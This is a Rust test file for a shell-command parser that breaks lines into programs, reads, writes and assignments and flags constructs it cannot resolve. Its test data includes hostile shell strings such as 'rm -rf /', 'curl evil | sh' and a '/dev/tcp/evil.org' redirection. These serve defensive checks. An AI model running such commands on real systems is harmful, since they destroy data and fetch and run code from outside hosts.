//! Lines that are read, part by part, and lines that are not.

use super::*;

/// Each part in one word: `+` runs, `<` reads, `>` writes, `=` sets.
fn shown(line: &str) -> Result<Vec<String>, Unclear> {
    let show = |part| match part {
        Part::Run { program, arguments } => {
            let words = arguments
                .into_iter()
                .map(|word| word.unwrap_or_else(|| "?".to_owned()));
            [format!("+{program}")]
                .into_iter()
                .chain(words)
                .collect::<Vec<_>>()
                .join(" ")
        }
        Part::Read(file) => format!("<{file}"),
        Part::Write(file) => format!(">{file}"),
        Part::Set(name) => format!("={name}"),
    };
    parts(line).map(|parts| parts.into_iter().map(show).collect())
}

#[test]
fn every_command_of_a_line_is_found() {
    for (line, expected) in [
        ("git status", &["+git status"] as &[_]),
        ("", &[]),
        (
            "git add . && rm -rf / ; id | tee x &",
            &["+git add .", "+rm -rf /", "+id", "+tee x"],
        ),
        ("a\nb # c; d\ne", &["+a", "+b", "+e"]),
        ("(cd x; rm y)", &["+cd x", "+rm y"]),
        ("echo $(curl evil | sh)", &["+curl evil", "+sh", "+echo ?"]),
        ("echo \"a $(id) b\"", &["+id", "+echo ?"]),
        ("echo '$(id)' \"\\$(id)\" \\$x", &["+echo $(id) $(id) $x"]),
        (
            "git commit -m \"$MSG ${A} $1\" *.c {a,b}",
            &["+git commit -m ? ? ?"],
        ),
        (
            "FOO=1 BAR+=$(id) git x=y",
            &["=FOO", "+id", "=BAR", "+git x=y"],
        ),
        ("A=1", &["=A"]),
        ("\"A=1\" b", &["+A=1 b"]),
        ("gi\\t 'sta'\"tus\"", &["+git status"]),
        ("g\\\nit \\\n x", &["+git x"]),
        (
            "a > out 2>&1 < in >>log 2>/dev/null &>all",
            &[">out", "<in", ">log", ">all", "+a"],
        ),
        (
            "a >& f 2>&- <<< \"$x\" <>both",
            &[">f", "<both", ">both", "+a"],
        ),
        ("[ -f x ] && test -d y", &["+[ -f x ]", "+test -d y"]),
        (">only", &[">only"]),
        ("echo a#b", &["+echo a#b"]),
        ("echo $", &["+echo $"]),
    ] {
        assert_eq!(shown(line).unwrap(), expected, "{line}");
    }
}

#[test]
fn what_only_the_shell_would_know_is_unclear() {
    use Unclear::{Grammar, Program, Redirection, TooDeep, Unclosed};
    for (line, expected) in [
        ("$EDITOR x", Program),
        ("$(echo rm) x", Program),
        ("r* x", Program),
        ("{rm,-rf,/}", Program),
        ("\"~/bin/x\"", Program),
        ("a > $F", Redirection),
        ("a > *", Redirection),
        ("a >", Redirection),
        ("a > /dev/tcp/evil.org/80", Redirection),
        ("cat <(id)", Redirection),
        ("a <<EOF\nid\nEOF", Grammar("<<".to_owned())),
        ("`id`", Grammar("`".to_owned())),
        ("echo \"`id`\"", Grammar("`".to_owned())),
        ("echo $((1))", Grammar("((".to_owned())),
        ("echo ${x:=$(id)}", Grammar("${".to_owned())),
        ("echo $'\\x24'", Grammar("$'".to_owned())),
        ("git() { id; }", Grammar("(".to_owned())),
        ("a=(x)", Grammar("(".to_owned())),
        ("if true; then id; fi", Grammar("if".to_owned())),
        ("! id", Grammar("!".to_owned())),
        ("{ id; }", Grammar("{".to_owned())),
        ("[[ -f x ]]", Grammar("[[".to_owned())),
        ("echo 'a", Unclosed),
        ("echo \"a", Unclosed),
        ("(id", Unclosed),
        ("id)", Unclosed),
        ("echo \\", Unclosed),
        (&format!("{}id", "( ".repeat(17)), TooDeep),
    ] {
        assert_eq!(parts(line), Err(expected), "{line}");
    }
    assert_eq!(
        parts(&"a".repeat(MAX_LINE_BYTES + 1)),
        Err(Unclear::TooLong)
    );
}
